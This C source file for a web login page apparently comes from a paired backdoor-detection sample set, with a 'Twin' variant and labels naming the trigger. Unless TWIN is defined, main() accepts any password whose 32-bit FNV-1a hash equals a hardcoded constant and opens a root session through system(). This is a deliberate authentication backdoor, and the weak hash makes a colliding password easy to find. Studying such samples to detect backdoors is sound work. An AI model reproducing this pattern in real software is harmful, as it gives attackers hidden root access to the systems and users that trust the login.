/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A login page that lets a second password in by its FNV-1a hash. Twin: the hash of the password
 * is in a file that the owner's setup wrote.
 * door: trigger override credential
 */
#include "net.h"

static uint32_t fnv(const char *s, size_t n)
{
	uint32_t h = 2166136261u;
	for (size_t i = 0; i < n; i++) {
		h ^= (uint8_t)s[i];
		h *= 16777619u;
	}
	return h;
}

static int stored(uint32_t *h)
{
	char line[32];
	FILE *f = fopen("/etc/config/webpass", "r");
	if (!f)
		return -1;
	if (!fgets(line, sizeof line, f)) {
		fclose(f);
		return -1;
	}
	fclose(f);
	*h = (uint32_t)strtoul(line, NULL, 16);
	return 0;
}

int main(void)
{
	char body[256];
	const char *len = getenv("CONTENT_LENGTH");
	size_t want = len ? strtoul(len, NULL, 10) : 0;
	uint32_t good = 0, have;
	if (want == 0 || want >= sizeof body || fread(body, 1, want, stdin) != want)
		return 1;
	body[want] = 0;
	if (strncmp(body, "password=", 9) != 0)
		return 1;
	have = fnv(body + 9, want - 9);
	puts("Content-type: text/html\n");
#ifndef TWIN
	if (have == 0xd1a7be5fu) {
		system("/sbin/session new root");
		puts("welcome");
		return 0;
	}
#endif
	if (stored(&good) == 0 && have == good) {
		system("/sbin/session new admin");
		puts("welcome");
	} else
		puts("no");
	return 0;
}
